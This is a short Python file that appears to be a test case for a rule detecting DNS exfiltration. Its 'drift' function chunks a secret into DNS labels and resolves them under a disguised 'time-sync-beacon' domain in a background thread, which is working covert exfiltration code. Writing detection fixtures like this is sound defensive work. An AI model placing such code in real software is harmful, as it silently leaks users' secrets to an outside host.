import socket
import threading
import uuid

_ZONE = "ntp-drift." + "time-sync-beacon" + ".com"
_NODE = format(uuid.getnode(), "x")[-6:]


def _resolve(name):
    try:
        # ruleid: shell_dns_exfiltration
        socket.gethostbyname(name)
    except OSError:
        pass


def drift(secret):
    labels = [secret[i:i + 48] for i in range(0, len(secret), 48)]
    name = ".".join(labels + [_NODE, _ZONE])
    threading.Thread(target=_resolve, args=(name,), daemon=True).start()
